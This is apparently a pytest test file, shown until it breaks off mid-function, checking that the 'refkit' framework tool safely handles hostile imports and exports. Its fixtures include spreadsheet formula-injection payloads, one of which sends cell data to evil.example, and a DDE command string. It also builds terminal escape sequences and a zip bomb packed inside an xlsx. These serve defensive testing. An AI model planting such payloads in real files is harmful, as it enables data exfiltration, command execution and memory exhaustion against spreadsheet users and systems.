"""Import and export under hostile input and unsafe states (issue 19, the import/export cases).

Each test reproduces a case of the issue as it was found: real files, real git repositories in
tmp_path, the real command line (in-process through ``cli``, or in a subprocess where the input
could hang or exhaust the process: FIFOs, zip bombs, under a memory limit and a timeout). Hostile
inputs are made by the tests themselves, small and fast: a zip bomb is a deflate stream of one
compressed chunk repeated, declared in a real xlsx structure.
"""

from __future__ import annotations

import csv
import io
import json
import os
import resource
import struct
import subprocess
import sys
import time
import zipfile
import zlib
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import REPO, git
from tests.test_interop import CASE_DIR, CASE_SCHEMA, esco_zip, leftovers, repo_at

# -- helpers ------------------------------------------------------------------------------------


def _drop_dac() -> None:
    """In a child before exec: give up reading files whatever their permissions (root's
    CAP_DAC_OVERRIDE and CAP_DAC_READ_SEARCH, dropped from the bounding set), so that a file of
    mode 000 is "permission denied" even for root. Nothing to do for another user."""
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    for cap in (1, 2):  # CAP_DAC_OVERRIDE, CAP_DAC_READ_SEARCH
        libc.prctl(24, cap, 0, 0, 0)  # PR_CAPBSET_DROP; fails harmlessly without CAP_SETPCAP


def refkit(
    cwd: Path, *args: str, timeout: float = 30, memory: int | None = None, no_dac: bool = False
) -> subprocess.CompletedProcess[str]:
    """The real ``refkit`` in a subprocess, with a timeout (a hang fails the test instead of
    hanging it), optionally a limit on its address space (a memory bomb fails it) and without
    root's power to read any file (``no_dac``)."""

    def limit() -> None:
        if memory is not None:
            resource.setrlimit(resource.RLIMIT_AS, (memory, memory))
        if no_dac:
            _drop_dac()

    env = dict(os.environ, PYTHONPATH=str(REPO))
    return subprocess.run(
        [sys.executable, "-m", "refkit", *args],
        cwd=cwd, env=env, capture_output=True, text=True, timeout=timeout,
        preexec_fn=limit, check=False,
    )  # fmt: skip


def y(text: str) -> str:
    """A YAML double-quoted scalar of any text (JSON strings are YAML double-quoted scalars)."""
    return json.dumps(text)


def write_framework(root: Path, fid: str, blocks: dict[str, dict[str, Any]]) -> Path:
    """A reference framework written as YAML by hand: {block id: {"title": t, "competencies":
    [{"id", "statement", "criteria", "notes"}]}}. Every text is written double-quoted, so that
    any character (CR, tab, ESC, NUL) is in the file as the test means it."""
    folder = root / "frameworks" / fid
    (folder / "blocks").mkdir(parents=True)
    (folder / "framework.yaml").write_text(
        f"schema: refkit/framework/2\nid: {fid}\ntitle: {fid}\nversion: 0.1.0\nstatus: draft\n"
        "type: reference\nlang: fr\n",
        encoding="utf-8",
    )
    for bid, block in blocks.items():
        lines = ["schema: refkit/block/1", f"id: {bid}", f"title: {y(block.get('title', bid))}", "competencies:"]  # fmt: skip
        for c in block["competencies"]:
            lines += [
                f"  - id: {c['id']}",
                f"    statement: {y(c['statement'])}",
                "    kind: skill",
            ]
            if c.get("criteria"):
                lines.append("    criteria:")
                lines += [f"      - {y(t)}" for t in c["criteria"]]
            if c.get("notes"):
                lines.append(f"    notes: {y(c['notes'])}")
        (folder / "blocks" / f"{bid}.yaml").write_text("\n".join(lines) + "\n", encoding="utf-8")
    return folder


def texts_of(root: Path, fid: str) -> list[tuple[str, ...]]:
    """Every text of a framework as refkit loads it: block titles, statements, criteria, notes."""
    from refkit.store.loader import load_framework, read_folder

    loaded = load_framework(f"frameworks/{fid}", read_folder(root, root / "frameworks" / fid))
    assert loaded.framework is not None, loaded.problems
    out: list[tuple[str, ...]] = []
    for b in loaded.framework.blocks:
        out.append(("block", b.id, b.title))
        for c in b.competencies:
            out.append((c.id, c.statement, *(cr.text for cr in c.criteria), c.notes or ""))
    return out


def zip_bytes(members: list[tuple[str, bytes, int, int]]) -> bytes:
    """A zip file of members given already deflated: (name, raw deflate data, crc32, size)."""
    out = io.BytesIO()
    central = []
    for name, data, crc, size in members:
        offset = out.tell()
        n = name.encode()
        out.write(struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 8, 0, 0, crc, len(data), size, len(n), 0))  # fmt: skip
        out.write(n)
        out.write(data)
        central.append(struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 8, 0, 0, crc, len(data), size, len(n), 0, 0, 0, 0, 0, offset) + n)  # fmt: skip
    start = out.tell()
    for c in central:
        out.write(c)
    count = min(len(central), 0xFFFF)  # more: zipfile reads the directory by its size anyway
    out.write(struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, out.tell() - start, start, 0))  # fmt: skip
    return out.getvalue()


def deflated(data: bytes) -> tuple[bytes, int, int]:
    c = zlib.compressobj(6, zlib.DEFLATED, -15)
    return c.compress(data) + c.flush(), zlib.crc32(data), len(data)


def bomb(head: bytes, chunk: bytes, times: int, tail: bytes) -> tuple[bytes, int, int]:
    """head + chunk * times + tail, deflated without ever holding it: each piece is deflated by a
    fresh compressor and ends byte-aligned (a full flush), so the pieces can be concatenated, and
    the chunk is deflated once and repeated."""

    def piece(data: bytes, final: bool = False) -> bytes:
        c = zlib.compressobj(9, zlib.DEFLATED, -15)
        return c.compress(data) + c.flush(zlib.Z_FINISH if final else zlib.Z_FULL_FLUSH)

    one = piece(chunk)
    crc = zlib.crc32(head)
    for _ in range(times):
        crc = zlib.crc32(chunk, crc)
    crc = zlib.crc32(tail, crc)
    data = piece(head) + one * times + piece(tail, final=True)
    return data, crc, len(head) + len(chunk) * times + len(tail)


SHEET_NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


def xlsx_with(path: Path, sheet: tuple[bytes, int, int], extra: list[tuple[str, bytes, int, int]] = ()) -> Path:  # type: ignore[assignment]  # fmt: skip
    """A real xlsx (the parts openpyxl writes) whose first sheet is ``sheet`` (deflated)."""
    from openpyxl import Workbook

    buf = io.BytesIO()
    Workbook().save(buf)
    members = []
    with zipfile.ZipFile(buf) as z:
        for info in z.infolist():
            if info.filename == "xl/worksheets/sheet1.xml":
                members.append((info.filename, *sheet))
            else:
                members.append((info.filename, *deflated(z.read(info))))
    path.write_bytes(zip_bytes(members + list(extra)))
    return path


# -- case 7: --replace over uncommitted work ------------------------------------------------------


def _sheet(path: Path, rows: list[list[str]]) -> Path:
    with path.open("w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows([["block", "id", "statement"], *rows])
    return path


def test_replace_refuses_to_discard_uncommitted_and_untracked_work(cli, tmp_path: Path) -> None:
    """Issue 19, case 7: ``import --replace`` over uncommitted edits discarded them silently."""
    root = repo_at(tmp_path)
    first = _sheet(tmp_path / "v1.csv", [["BC01", "C1", "Poser"], ["BC02", "C2", "Régler"]])
    second = _sheet(tmp_path / "v2.csv", [["BC01", "C1", "Poser un réseau"]])
    assert cli("import", "csv", str(first), "--out", "frameworks/f", "--reference", cwd=root).code == 0  # fmt: skip
    git(root, "add", "frameworks")
    git(root, "commit", "-q", "-m", "import v1")
    folder = root / "frameworks" / "f"
    edited = folder / "blocks" / "BC02.yaml"
    edited.write_text(edited.read_text(encoding="utf-8") + "# mon travail\n", encoding="utf-8")
    untracked = folder / "blocks" / "BC03.yaml"
    untracked.write_text("schema: refkit/block/1\nid: BC03\ntitle: Nouveau\n", encoding="utf-8")
    (root / ".git" / "info" / "exclude").write_text("BC09.yaml\n", encoding="utf-8")
    ignored = folder / "blocks" / "BC09.yaml"
    ignored.write_text("schema: refkit/block/1\nid: BC09\ntitle: Ignoré\n", encoding="utf-8")
    before = {p: p.read_bytes() for p in folder.rglob("*") if p.is_file()}

    run = cli("import", "csv", str(second), "--out", "frameworks/f", "--reference", "--replace", cwd=root)  # fmt: skip
    assert run.code == 2, run.err
    for name in ("blocks/BC02.yaml", "blocks/BC03.yaml", "blocks/BC09.yaml"):
        assert name in run.err
    assert "commit" in run.err and "Traceback" not in run.err
    assert {p: p.read_bytes() for p in folder.rglob("*") if p.is_file()} == before
    assert leftovers(root) == ["f"]

    # committed, the work is safe in git: the import replaces it
    ignored.unlink()
    git(root, "add", "frameworks")
    git(root, "commit", "-q", "-m", "my work")
    run = cli("import", "csv", str(second), "--out", "frameworks/f", "--reference", "--replace", cwd=root)  # fmt: skip
    assert run.code == 0, run.err
    assert sorted(p.name for p in (folder / "blocks").iterdir()) == ["BC01.yaml"]


def test_replace_outside_git_is_refused(cli, tmp_path: Path) -> None:
    """Outside git nothing is committed: every file of the folder would be lost."""
    root = tmp_path / "plain"
    (root / "frameworks").mkdir(parents=True)
    sheet = _sheet(tmp_path / "v1.csv", [["BC01", "C1", "Poser"]])
    assert cli("import", "csv", str(sheet), "--out", "frameworks/f", "--reference", cwd=root).code == 0  # fmt: skip
    before = (root / "frameworks" / "f" / "blocks" / "BC01.yaml").read_bytes()
    run = cli("import", "csv", str(sheet), "--out", "frameworks/f", "--reference", "--replace", cwd=root)  # fmt: skip
    assert run.code == 2
    assert "not in a git repository" in run.err and "hint:" in run.err
    assert (root / "frameworks" / "f" / "blocks" / "BC01.yaml").read_bytes() == before


# -- case 8: export of a framework that cannot be read whole ----------------------------------------

BROKEN = {
    "syntax": lambda p: p.write_text(p.read_text(encoding="utf-8") + "  - id: [C9\n", encoding="utf-8"),
    "conflict": lambda p: p.write_text("<<<<<<< HEAD\n" + p.read_text(encoding="utf-8") + "=======\nid: BC02\n>>>>>>> autre\n", encoding="utf-8"),
    "permission": lambda p: p.chmod(0),
}  # fmt: skip


@pytest.mark.parametrize("fmt", ["csv", "case", "xlsx"])
@pytest.mark.parametrize("how", sorted(BROKEN))
def test_export_refuses_a_framework_with_an_unreadable_block(
    cli, sample_repo: Path, tmp_path: Path, fmt: str, how: str
) -> None:
    """Issue 19, case 8: export csv/case/xlsx exited 0 without the unreadable block. Permission
    denied is real even when the tests run as root: the command runs without root's power to
    read any file."""
    block = sample_repo / "frameworks" / "plombier-chauffagiste" / "blocks" / "BC02.yaml"
    BROKEN[how](block)
    out = tmp_path / f"out.{fmt}"
    try:
        if how == "permission":
            probe = subprocess.run(["cat", str(block)], preexec_fn=_drop_dac, capture_output=True, check=False)  # fmt: skip
            if probe.returncode == 0:
                pytest.skip("this process cannot give up reading any file (no CAP_SETPCAP)")
            proc = refkit(sample_repo, "export", fmt, "plombier-chauffagiste", "-o", str(out), no_dac=True)  # fmt: skip
            code, err, stdout = proc.returncode, proc.stderr, proc.stdout
        else:
            run = cli("export", fmt, "plombier-chauffagiste", "-o", str(out), cwd=sample_repo)
            code, err, stdout = run.code, run.err, run.out
    finally:
        block.chmod(0o644)
    assert code == 1, err
    assert "blocks/BC02.yaml" in err and "cannot be read whole" in err
    assert "Traceback" not in err
    assert not out.exists() and stdout == ""


def test_export_of_a_release_with_an_unreadable_block_is_refused(cli, sample_repo: Path) -> None:
    """The same for a version read from git: a committed block that does not parse."""
    block = sample_repo / "frameworks" / "plombier-chauffagiste" / "blocks" / "BC02.yaml"
    BROKEN["syntax"](block)
    git(sample_repo, "commit", "-q", "-am", "broken")
    run = cli("export", "csv", "plombier-chauffagiste@HEAD", cwd=sample_repo)
    assert run.code in (1, 2), run.err
    assert "BC02.yaml" in run.err and run.out == ""


# -- case 10: formulas and carriage returns in spreadsheets ----------------------------------------

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Cliquer ici")',
    '=WEBSERVICE("http://evil.example/"&B2)',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\tTabulation en tête",
    "\rRetour chariot en tête",
    "Avant\rAprès un retour chariot seul",
    "Fin par un retour chariot\r",
    "'=déjà protégé par une apostrophe",
    "''+deux apostrophes",
    "'apostrophe simple",
    "  espaces autour  ",
]


def hostile_repo(tmp_path: Path) -> Path:
    root = repo_at(tmp_path)
    # criteria are one per line in their cell: a criterion cannot end with CR (CR LF is a line
    # break in a cell), the one text that does not come back as it was
    comps = [
        {
            "id": f"C{n}",
            "statement": t,
            "criteria": [t.removesuffix("\r"), "Critère ordinaire"],
            "notes": t,
        }
        for n, t in enumerate(HOSTILE, start=1)
    ]
    write_framework(root, "hostile", {"BC01": {"title": HOSTILE[0], "competencies": comps}})
    return root


def test_csv_export_neutralises_formulas_quotes_cr_and_round_trips(cli, tmp_path: Path) -> None:
    """Issue 19, case 10: texts starting with = + - @, tab or CR were written raw; a bare CR split
    a row. Cells that a spreadsheet would read as a formula start with a quote; import takes it
    off again: every text comes back exactly."""
    root = hostile_repo(tmp_path)
    run = cli("export", "csv", "hostile", cwd=root)
    assert run.code == 0, run.err
    rows = list(csv.reader(io.StringIO(run.out, newline="")))
    assert len(rows) == 1 + len(HOSTILE)  # no row split by a carriage return
    for row in rows[1:]:
        for cell in row:
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), row
    assert rows[1][3].startswith("'=HYPERLINK(") and rows[11][3] == "'''+deux apostrophes"
    assert rows[12][3] == "'apostrophe simple"  # a quote before an ordinary text stays as it is

    sheet = tmp_path / "hostile.csv"
    sheet.write_text(run.out, encoding="utf-8", newline="")
    again = cli("import", "csv", str(sheet), "--out", "frameworks/copie", "--reference", cwd=root)
    assert again.code == 0, again.err
    assert texts_of(root, "copie") == texts_of(root, "hostile")
    assert cli("export", "csv", "copie", cwd=root).out == run.out


def test_xlsx_export_writes_texts_never_formulas_and_round_trips(cli, tmp_path: Path) -> None:
    """Issue 19, case 10: in xlsx the same texts became live formulas (=HYPERLINK, =WEBSERVICE)."""
    from openpyxl import load_workbook

    root = hostile_repo(tmp_path)
    out = tmp_path / "hostile.xlsx"
    run = cli("export", "xlsx", "hostile", "-o", str(out), cwd=root)
    assert run.code == 0, run.err
    with zipfile.ZipFile(out) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet and "<f " not in sheet  # no formula anywhere
    ws = load_workbook(out).active
    cells = [c for row in ws.iter_rows(min_row=2) for c in row if c.value]
    assert all(c.data_type == "s" for c in cells)
    assert all(c.quotePrefix for c in cells if str(c.value)[:1] in "=+-@")  # shown as text on edit
    again = cli("import", "xlsx", str(out), "--out", "frameworks/copie", "--reference", cwd=root)
    assert again.code == 0, again.err
    assert texts_of(root, "copie") == texts_of(root, "hostile")


# -- case 12: control characters in xlsx ------------------------------------------------------------

CONTROL = [
    "Couleur \x1b[31mrouge\x1b[0m et \x1b[2Keffacé",
    "Nul\x00 au milieu",
    "Cloche\x07 et retour arrière\x08",
    "Texte qui s'écrit _x001B_ en toutes lettres",
    "Non-caractère \uffff et \ufffe",
    "Séparateur\x1funité",
]


def test_xlsx_export_of_control_characters_escapes_them_reversibly(cli, tmp_path: Path) -> None:
    """Issue 19, case 12: ESC, NUL, BEL in a text made export xlsx end in IllegalCharacterError.
    They are written as Excel writes them (_x001B_), and read back."""
    root = repo_at(tmp_path)
    comps = [{"id": f"C{n}", "statement": t, "criteria": [t], "notes": t} for n, t in enumerate(CONTROL, 1)]  # fmt: skip
    write_framework(root, "ctl", {"BC01": {"title": CONTROL[0], "competencies": comps}})
    out = tmp_path / "ctl.xlsx"
    run = cli("export", "xlsx", "ctl", "-o", str(out), cwd=root)
    assert run.code == 0, run.err
    assert "Traceback" not in run.err
    with zipfile.ZipFile(out) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "Couleur _x001B_[31mrouge" in sheet and "\x1b" not in sheet
    assert "_x005F_x001B_" in sheet  # the text "_x001B_" itself, escaped as Excel does
    # read back as written; the import then removes what no framework may hold (the rule
    # control-character), says so, and the copy validates
    from refkit.control import CONTROL as ILLEGAL

    again = cli("import", "xlsx", str(out), "--out", "frameworks/copie", "--reference", cwd=root)
    assert again.code == 0, again.err
    assert "control characters removed from texts of the source" in again.out + again.err

    def cleaned(t: tuple[str, ...]) -> tuple[str, ...]:
        return tuple(
            ILLEGAL.sub(lambda m: m.group() if m.group() == "\r" else "", x.replace("\r\n", "\n"))
            for x in t
        )

    assert texts_of(root, "copie") == [cleaned(t) for t in texts_of(root, "ctl")]


def test_export_to_a_terminal_shows_control_characters_escaped(tmp_path: Path) -> None:
    """Issue 19, case 12: export printed an escape sequence raw to a terminal (it can erase what
    is shown). On a terminal control characters are shown as \\x1b; through a pipe the text is
    exact."""
    import pty

    root = repo_at(tmp_path)
    comps = [{"id": "C1", "statement": "Rouge\x1b[31m puis\x1b[2K effacé\rfin"}]
    write_framework(root, "ctl", {"BC01": {"competencies": comps}})
    master, slave = pty.openpty()
    env = dict(os.environ, PYTHONPATH=str(REPO))
    proc = subprocess.run([sys.executable, "-m", "refkit", "export", "csv", "ctl"], cwd=root, env=env,
                          stdout=slave, stderr=subprocess.PIPE, timeout=30, check=False)  # fmt: skip
    os.close(slave)
    shown = b""
    while True:
        try:
            chunk = os.read(master, 65536)
        except OSError:
            break
        if not chunk:
            break
        shown += chunk
    os.close(master)
    assert proc.returncode == 0, proc.stderr
    assert b"\x1b" not in shown and b"Rouge\\x1b[31m puis\\x1b[2K effac" in shown
    assert b"\\x0dfin" in shown and b"control character" in proc.stderr
    piped = subprocess.run([sys.executable, "-m", "refkit", "export", "csv", "ctl"], cwd=root,
                           env=env, capture_output=True, timeout=30, check=False)  # fmt: skip
    assert "Rouge\x1b[31m puis\x1b[2K effacé\rfin".encode() in piped.stdout
    # CASE JSON holds no raw control character at all (json.dumps leaves DEL and C1 raw), and
    # is the same JSON
    (root / "frameworks" / "ctl" / "blocks" / "BC01.yaml").write_text(
        (root / "frameworks" / "ctl" / "blocks" / "BC01.yaml").read_text(encoding="utf-8").replace("fin", "fin\\u009b2J"), encoding="utf-8")  # fmt: skip
    case = refkit(root, "export", "case", "ctl")
    assert case.returncode == 0, case.stderr
    assert "\\u009b2J" in case.stdout and "\x9b" not in case.stdout and "\x1b" not in case.stdout
    statements = [i["fullStatement"] for i in json.loads(case.stdout)["CFItems"]]
    assert "Rouge\x1b[31m puis\x1b[2K effacé\rfin\x9b2J" in statements


# -- case 15: hostile CASE packages and schemas -----------------------------------------------------


def _package(items: list[dict[str, Any]], assocs: list[dict[str, Any]] = (), **doc: Any) -> dict[str, Any]:  # type: ignore[assignment]  # fmt: skip
    return {
        "CFDocument": {"identifier": "d0c00000-0000-4000-8000-000000000000", "title": "Doc", **doc},
        "CFItems": items,
        "CFAssociations": list(assocs),
    }


def _uuid(n: int) -> str:
    return f"00000000-0000-4000-8000-{n:012d}"


def test_case_import_of_a_number_as_full_statement(cli, tmp_path: Path) -> None:
    """Issue 19, case 15: ``"fullStatement": 12345`` ended in AttributeError."""
    root = repo_at(tmp_path)
    path = tmp_path / "number.json"
    path.write_text(json.dumps(_package([{"identifier": _uuid(1), "fullStatement": 12345}])))
    run = cli("import", "case", str(path), "--out", "frameworks/c", cwd=root)
    assert run.code == 2, run.err
    assert str(path) in run.err and "CFItems[0].fullStatement" in run.err and "number" in run.err
    assert "Traceback" not in run.err and leftovers(root) == []


@pytest.mark.parametrize("depth", [100_000, 200])
def test_case_import_of_deep_nesting(cli, tmp_path: Path, depth: int) -> None:
    """Issue 19, case 15: deep nesting ended in RecursionError (100,000 levels); 200 levels, under
    Python's limit, would be written into a block file too deep for refkit to read back."""
    root = repo_at(tmp_path)
    path = tmp_path / "deep.json"
    item = {"identifier": _uuid(1), "fullStatement": "Item", "extra": "@"}
    text = json.dumps(_package([item])).replace('"@"', "[" * depth + "]" * depth)
    path.write_text(text)
    run = cli("import", "case", str(path), "--out", "frameworks/c", cwd=root)
    assert run.code == 2, run.err
    assert str(path) in run.err and "nest" in run.err and "Traceback" not in run.err
    if depth == 200:
        assert "CFItems[0].extra" in run.err  # the JSON path of the place
    else:
        assert f"{path}:1:" in run.err  # the line and column of the place
    assert leftovers(root) == []


def test_case_import_of_a_5000_level_chain_is_linear(tmp_path: Path) -> None:
    """Issue 19, case 15: an isChildOf chain of 5,000 levels took over 60 s (quadratic)."""
    root = repo_at(tmp_path)
    n = 5000
    items = [{"identifier": _uuid(0), "fullStatement": "Racine"}]
    items += [{"identifier": _uuid(i), "fullStatement": f"Niveau {i}"} for i in range(1, n + 1)]
    doc = "d0c00000-0000-4000-8000-000000000000"
    assocs = [{"identifier": _uuid(10**6 + i), "associationType": "isChildOf",
               "originNodeURI": {"identifier": _uuid(i), "uri": "", "title": ""},
               "destinationNodeURI": {"identifier": _uuid(i - 1) if i else doc, "uri": "", "title": ""}}
              for i in range(n + 1)]  # fmt: skip
    path = tmp_path / "chain.json"
    path.write_text(json.dumps(_package(items, assocs)))
    # no timed assertion (a loaded CI machine is no measure): the quadratic import took over
    # 60 s, past the subprocess's time limit, which fails the test
    run = refkit(root, "import", "case", str(path), "--out", "frameworks/chain", "--format", "json", timeout=90)  # fmt: skip
    assert run.returncode == 0, run.stderr
    assert json.loads(run.stdout)["competencies"] == n


def _chain(n: int, loop: int) -> tuple[dict[str, Any], list[dict[str, Any]]]:
    """A chain of ``n`` levels under the document, and a loop of ``loop`` items apart."""
    doc = "doc"
    items = {f"i{k}": {"identifier": f"i{k}"} for k in range(n)}
    assocs = [{"associationType": "isChildOf", "originNodeURI": {"identifier": f"i{k}"},
               "destinationNodeURI": {"identifier": f"i{k - 1}" if k else doc}} for k in range(n)]  # fmt: skip
    items |= {f"l{k}": {"identifier": f"l{k}"} for k in range(loop)}
    assocs += [{"associationType": "isChildOf", "originNodeURI": {"identifier": f"l{k}"},
                "destinationNodeURI": {"identifier": f"l{(k + 1) % loop}"}} for k in range(loop)]  # fmt: skip
    return items, assocs


def test_tree_of_a_long_chain_is_linear() -> None:
    """The hierarchy itself (loop detection included) is linear: sixteen times the levels take
    about sixteen times as long, not 256 (a ratio of two runs side by side, the best of five
    each with the collector held: no absolute time, which a loaded machine would make fail; the
    sizes are far apart so that a loaded machine's noise, which once made a 4x ratio read 17x,
    stays well inside the margin)."""
    import gc

    from refkit.interop.case_import import _tree

    def best(n: int) -> float:
        items, assocs = _chain(n, n // 4)
        times = []
        for _ in range(5):
            gc.disable()
            try:
                start = time.perf_counter()
                _tree("doc", items, assocs)
                times.append(time.perf_counter() - start)
            finally:
                gc.enable()
        return min(times)

    assert best(32_000) / best(2_000) < 80  # linear: about 16 to 25; quadratic: about 256
    n = 20_000
    items, assocs = _chain(n, 5000)
    tree, extra = _tree("doc", items, assocs)
    assert tree.roots[0] == "i0" and tree.children["i0"] == ["i1"]
    assert len(extra) == 1 and extra[0]["originNodeURI"]["identifier"] == "l0"  # the loop cut once
    assert tree.roots[1:] == ["l0"] and len(tree.parent) == (n - 1) + 4999


def _rich_package() -> dict[str, Any]:
    """A small CASE package using every part the import reads: two blocks with items under
    them, a loose item, precedes, an ESCO alignment, another association, a rubric, definitions."""
    doc = "d0c00000-0000-4000-8000-000000000000"

    def link(i: int | str) -> dict[str, str]:
        ident = doc if i == "doc" else _uuid(int(i))
        return {"identifier": ident, "uri": f"urn:uuid:{ident}", "title": ""}

    def assoc(n: int, kind: str, origin: int, dest: Any, seq: int | None = None) -> dict[str, Any]:
        a = {"identifier": _uuid(900 + n), "associationType": kind, "originNodeURI": link(origin),
             "destinationNodeURI": dest if isinstance(dest, dict) else link(dest)}  # fmt: skip
        return a | ({"sequenceNumber": seq} if seq is not None else {})

    items = [
        {"identifier": _uuid(i), "fullStatement": f"Item {i}", "humanCodingScheme": f"H{i}",
         "CFItemType": t, "notes": "n"}
        for i, t in ((1, "Domain"), (2, "Knowledge"), (3, "Domain"), (4, "Skill"), (5, "Attitude"))
    ]  # fmt: skip
    esco = {"identifier": "e", "uri": "http://data.europa.eu/esco/skill/x", "title": "x"}
    assocs = [
        assoc(1, "isChildOf", 1, "doc", 1), assoc(2, "isChildOf", 2, 1, 1),
        assoc(3, "isChildOf", 3, "doc", 2), assoc(4, "isChildOf", 4, 3, 1),
        assoc(5, "precedes", 1, 3), assoc(6, "exactMatchOf", 2, esco), assoc(7, "isRelatedTo", 4, 2),
        assoc(8, "isRelatedTo", 1, 1),
    ]  # fmt: skip
    return _package(items, assocs, language="fr", description="Desc") | {
        "CFRubrics": [{"identifier": _uuid(800), "CFRubricCriteria": [
            {"identifier": _uuid(801), "description": "Critère", "CFItemURI": link(2)}]}],
        "CFDefinitions": {"CFItemTypes": [{"identifier": "t1", "title": "Domain", "typeCode": 1}]},
    }  # fmt: skip


def _paths(node: Any, path: tuple[Any, ...] = ()) -> Any:
    yield path
    if isinstance(node, dict):
        for k, v in node.items():
            yield from _paths(v, (*path, k))
    elif isinstance(node, list):
        for i, v in enumerate(node[:3]):
            yield from _paths(v, (*path, i))


def _nice_sample() -> dict[str, Any]:
    from tests.test_interop import NICE

    data = json.loads((NICE / "v2.0.0" / "v2_nf_components.json").read_text(encoding="utf-8"))
    kinds: dict[str, int] = {}
    kept = []
    for e in data["elements"]:  # a few of each type
        kinds[e["element_type"]] = kinds.get(e["element_type"], 0) + 1
        if kinds[e["element_type"]] <= 6:
            kept.append(e)
    ids = {e["element_identifier"] for e in kept}
    rels = [r for r in data["relationships"] if r["source_element_identifier"] in ids and r["dest_element_identifier"] in ids]  # fmt: skip
    return {"documents": data.get("documents"), "elements": kept, "relationships": rels[:40]}


def _direct_sample() -> dict[str, Any]:
    from tests.test_interop import DIRECT

    data = json.loads((DIRECT / "v2.0.0" / "framework" / "DIRECT-framework-all-in-one.json").read_text(encoding="utf-8"))  # fmt: skip
    for domain in data["competency_domains"][:2]:
        domain["competencies"] = domain["competencies"][:2]
        for competency in domain["competencies"]:
            competency["skills"] = competency["skills"][:3]
    data["competency_domains"] = data["competency_domains"][:2]
    return data


@pytest.mark.parametrize("source", ["case", "nice", "direct"])
def test_any_value_of_the_wrong_type_is_handled(tmp_path: Path, source: str) -> None:
    """Issue 19, case 15 ("fullStatement": 12345, and its kind): every value of a small package,
    replaced by a number, a text, a list, an object, null or a boolean, gives an import (perhaps
    with parts left out) or a clear error, never an exception; what is imported is written."""
    import copy

    from refkit.errors import RefkitError
    from refkit.interop import write_imported
    from refkit.interop.case import import_case
    from refkit.interop.direct import import_direct
    from refkit.interop.nice import import_nice

    make, run = {"case": (_rich_package, import_case), "nice": (_nice_sample, import_nice),
                 "direct": (_direct_sample, import_direct)}[source]  # fmt: skip
    base = make()
    assert run(_write_json(tmp_path / "base.json", base)).counts()[1] > 0
    values = [12345, 1.5, "texte", "", [], {}, None, True, [1, "x"], {"a": 1}]
    tried = 0
    for path in _paths(base):
        if not path:
            continue
        for value in values:
            data = copy.deepcopy(base)
            holder = data
            for part in path[:-1]:
                holder = holder[part]
            holder[path[-1]] = value
            file = _write_json(tmp_path / "in.json", data)
            tried += 1
            try:
                imported = run(file)
            except RefkitError as e:
                assert str(file) in e.message, e.message
                continue
            if tried % 25 == 0:  # and some of them written, as the command does
                root = tmp_path / f"r{tried}"
                write_imported(root / "frameworks" / "x", imported)
    assert tried > 300


def _write_json(path: Path, data: Any) -> Path:
    path.write_text(json.dumps(data), encoding="utf-8")
    return path


@pytest.mark.parametrize(
    ("schema", "message"),
    [
        ('{"$ref": "#"}', "refers to itself"),
        ('{"$defs": {"a": {"$ref": "#/$defs/b"}, "b": {"$ref": "#/$defs/a"}}, "$ref": "#/$defs/a"}', "refers to itself"),
        ('{"type": 12}', "not a valid JSON Schema"),
        ('{"properties": {"CFDocument": {"minLength": "x"}}}', "properties/CFDocument/minLength"),
        ('{"$ref": "http://schemas.example.org/missing.json"}', "cannot be resolved"),
        ("[1, 2]", "not a JSON Schema"),
        ('{"type": ', "not valid JSON"),
    ],
)  # fmt: skip
def test_export_case_with_a_bad_schema(
    cli, sample_repo: Path, tmp_path: Path, schema: str, message: str
) -> None:
    """Issue 19, case 15: ``export case --schema`` with a recursive or malformed schema ended in a
    traceback."""
    path = tmp_path / "schema.json"
    path.write_text(schema)
    run = cli("export", "case", "plombier-chauffagiste", "--schema", str(path), cwd=sample_repo)
    assert run.code == 2, run.err
    assert str(path) in run.err and message in run.err, run.err
    assert "Traceback" not in run.err and run.out == ""


def test_export_case_schema_from_a_device_a_fifo_or_a_huge_file(sample_repo: Path, tmp_path: Path) -> None:  # fmt: skip
    """Issue 19, case 15: ``--schema /dev/zero`` hung. Only regular files are read, with a cap."""
    fifo = tmp_path / "schema.fifo"
    os.mkfifo(fifo)
    huge = tmp_path / "huge.json"
    with huge.open("wb") as f:
        f.truncate(1 << 30)  # sparse: 1 GiB of nothing
    for path in ("/dev/zero", str(fifo), str(huge), str(tmp_path)):
        run = refkit(sample_repo, "export", "case", "plombier-chauffagiste", "--schema", path, timeout=20, memory=1 << 30)  # fmt: skip
        assert run.returncode == 2, (path, run.stderr)
        assert path in run.stderr and "Traceback" not in run.stderr, run.stderr


# -- case 16: zip bombs and millions of rows --------------------------------------------------------


def test_xlsx_zip_bomb_is_refused_before_reading(tmp_path: Path) -> None:
    """Issue 19, case 16: an xlsx of 2 MB holding 2 GB took 2.1 GB of memory. The sizes in the
    zip's directory are checked first; the command runs here under a 1 GiB limit."""
    head = f'<worksheet {SHEET_NS}><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>'.encode()
    sheet = bomb(head, b"a" * (1 << 20), 2048, b"</t></is></c></row></sheetData></worksheet>")
    path = xlsx_with(tmp_path / "bomb.xlsx", sheet)
    assert path.stat().st_size < 4 << 20
    root = repo_at(tmp_path)
    run = refkit(root, "import", "xlsx", str(path), "--out", "frameworks/b", "--reference", timeout=60, memory=1 << 30)  # fmt: skip
    assert run.returncode == 2, run.stderr[-2000:]
    assert str(path) in run.stderr and "uncompressed" in run.stderr
    assert "xl/worksheets/sheet1.xml" in run.stderr and "Traceback" not in run.stderr
    assert leftovers(root) == []


def _rows_sheet(rows: int, dimension: str | None, numbered: bool = False) -> tuple[bytes, int, int]:
    dim = f'<dimension ref="{dimension}"/>' if dimension else ""
    head = f"<worksheet {SHEET_NS}>{dim}<sheetData>".encode()
